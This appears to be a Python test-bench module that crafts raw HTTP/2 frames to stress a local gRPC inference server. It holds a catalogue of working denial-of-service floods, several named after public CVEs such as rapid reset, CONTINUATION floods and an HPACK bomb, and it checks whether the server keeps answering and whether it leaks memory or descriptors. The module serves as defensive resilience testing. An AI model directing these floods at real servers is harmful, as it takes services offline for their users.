"""HTTP/2 against the gRPC port: floods that have names."""

import asyncio
import struct
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any, Final

import hpack

from bench.attack.attack import VICTIM, Ground, Result, grown
from bench.attack.calls import message
from bench.attack.stand import Stand
from bench.attack.wire import exchange

_FLOOD_BYTES: Final = 4 << 20
#: A server may keep the sockets of those it cut off for a moment, so that coming back costs.
_LINGER_S: Final = 4.0
_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _GOAWAY, _WINDOW, _CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9,
)  # fmt: skip
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_INFER: Final = "/inference.GRPCInferenceService/ModelInfer"


def frame(kind: int, flags: int, stream: int, data: bytes = b"") -> bytes:
    """An HTTP/2 frame (RFC 9113, 4.1)."""
    return len(data).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + data


def head(stream: int, path: str = _INFER, flags: int = _END_HEADERS) -> bytes:
    """HEADERS that open a call."""
    fields = [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a"),
        ("te", "trailers"), ("content-type", "application/grpc"),
    ]  # fmt: skip
    block = bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*f) for f in fields]))
    return frame(_HEADERS, flags, stream, block)


def _call(stream: int) -> bytes:
    data = message(VICTIM.model, [1.0, 2.0, 3.0, 4.0])
    return head(stream) + frame(_DATA, _END_STREAM, stream, struct.pack(">BI", 0, len(data)) + data)


HELLO: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0)


def _often(make: Callable[[int], bytes]) -> bytes:
    """That frame again and again, with stream numbers that rise, some megabytes of it."""
    pieces, size, number = [HELLO], 0, 1
    while size < _FLOOD_BYTES and len(pieces) < 120_000:
        pieces.append(make(number))
        size += len(pieces[-1])
        number += 2
    return b"".join(pieces)


#: Floods: the server may close, and must not mind. The CVE numbers are those of other servers.
FLOODS: Final[dict[str, Callable[[], bytes]]] = {
    "rapid reset (CVE-2023-44487)": lambda: _often(
        lambda n: head(n) + frame(_RESET, 0, n, bytes((0, 0, 0, 8)))
    ),
    "made you reset (CVE-2025-8671)": lambda: _often(
        lambda n: head(n) + frame(_WINDOW, 0, n, bytes(4))
    ),
    "settings (CVE-2019-9515)": lambda: _often(lambda n: frame(_SETTINGS, 0, 0)),
    "pings (CVE-2019-9512)": lambda: _often(lambda n: frame(_PING, 0, 0, bytes(8))),
    "empty data (CVE-2019-9518)": lambda: HELLO + head(1) + frame(_DATA, 0, 1) * 100_000,
    "priorities (CVE-2019-9513)": lambda: _often(lambda n: frame(_PRIORITY, 0, n, bytes(5))),
    "empty continuations (CVE-2024-24549)": lambda: (
        HELLO + head(1, flags=0) + frame(_CONTINUATION, 0, 1) * 200_000
    ),
    "endless continuation (CVE-2023-45288)": lambda: (
        HELLO + head(1, flags=0) + frame(_CONTINUATION, 0, 1, _filler()) * 300
    ),
    "window updates by 1": lambda: HELLO + frame(_WINDOW, 0, 0, bytes((0, 0, 0, 1))) * 200_000,
    "table size updates": lambda: (
        HELLO + b"".join(frame(_HEADERS, _END_HEADERS, n, b"\x20" * 4000) for n in range(1, 400, 2))
    ),
    "HPACK bomb": lambda: HELLO + _hpack_bomb(),
    "unknown paths": lambda: _often(lambda n: head(n, "/no/Such", _END_HEADERS | _END_STREAM)),
    "unknown frame kinds": lambda: _often(lambda n: frame(0xEE, 0, n, bytes(64))),
    "a frame of 16 MB": lambda: (
        HELLO + b"\xff\xff\xff" + bytes((_DATA, 0)) + bytes(4) + bytes(1 << 20)
    ),
    "data without a stream": lambda: HELLO + frame(_DATA, 0, 99, bytes(100)),
    "even stream numbers": lambda: HELLO + head(2),
    "window beyond 2^31": lambda: HELLO + frame(_WINDOW, 0, 0, b"\x7f\xff\xff\xff") * 3,
    "no preface": lambda: b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
    "message longer than said": lambda: (
        HELLO + head(1) + frame(_DATA, _END_STREAM, 1, struct.pack(">BI", 0, 5) + bytes(50))
    ),
    "message of 2 GiB announced": lambda: (
        HELLO + head(1) + frame(_DATA, 0, 1, struct.pack(">BI", 0, 2**31 - 1) + bytes(1000))
    ),
    "1,000 streams left open": lambda: HELLO + b"".join(head(n) for n in range(1, 2001, 2)),
}  # fmt: skip


def _filler() -> bytes:
    return hpack.Encoder().encode([("x-" + "a" * 30, "b" * 4000)])


def _hpack_bomb() -> bytes:
    """One large field put in the table, then thousands of one-byte references to it."""
    encoder = hpack.Encoder()
    first = bytes(encoder.encode([("x-bomb", "b" * 4000)], huffman=False))
    return frame(_HEADERS, _END_HEADERS, 1, first + b"\xbe" * 12_000)


def floods(ground: Ground, stand: Stand) -> Result:
    """Each flood over four connections that come back as soon as they are cut off."""
    result = Result(0)
    ended: dict[str, Any] = {}
    before = stand.held()
    for name, make in FLOODS.items():
        began_s, rounds = time.monotonic(), 0
        data = make()
        while rounds == 0 or time.monotonic() - began_s < 2.0 * ground.scale:
            asyncio.run(_four(stand.grpc_port, data))
            rounds += 1
        ended[name] = {"connections": 4 * rounds, "next_answer_ms": _answer_ms(stand)}
        result.tried += 4 * rounds
        result.broken[f"{name}: no answer to the next"] += ended[name]["next_answer_ms"] is None
    time.sleep(_LINGER_S)
    after = stand.held()
    result.broken["descriptors kept"] += after["main_descriptors"] - before["main_descriptors"] > 20
    result.figures = {**ended, **grown(before, after, "main_pss_mb", "main_descriptors")}
    return result


async def _four(port: int, data: bytes) -> None:
    await asyncio.gather(*(exchange(port, data, 0.5) for _ in range(4)))


def _answer_ms(stand: Stand) -> float | None:
    """Milliseconds of a plain call on a fresh connection, None if there was no good answer."""
    began_s = time.monotonic()
    sent = asyncio.run(_until_trailers(stand.grpc_port))
    return round((time.monotonic() - began_s) * 1e3, 1) if sent else None


async def _until_trailers(port: int) -> bool:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(HELLO + _call(1))
    got = b""
    with suppress(TimeoutError, OSError):
        while b"OUTPUT" not in got and b"grpc-status" not in got and len(got) < 1 << 16:
            piece = await asyncio.wait_for(reader.read(4096), 10)
            if not piece:
                break
            got += piece
            if _has_end(got):
                break
    writer.close()
    return _has_end(got)


def _has_end(got: bytes) -> bool:
    """Whether a frame that ends stream 1 has come."""
    at = 0
    while at + 9 <= len(got):
        size = int.from_bytes(got[at : at + 3], "big")
        kind, flags = got[at + 3], got[at + 4]
        stream = int.from_bytes(got[at + 5 : at + 9], "big")
        if stream == 1 and kind in (_DATA, _HEADERS) and flags & _END_STREAM:
            return True
        at += 9 + size
    return False
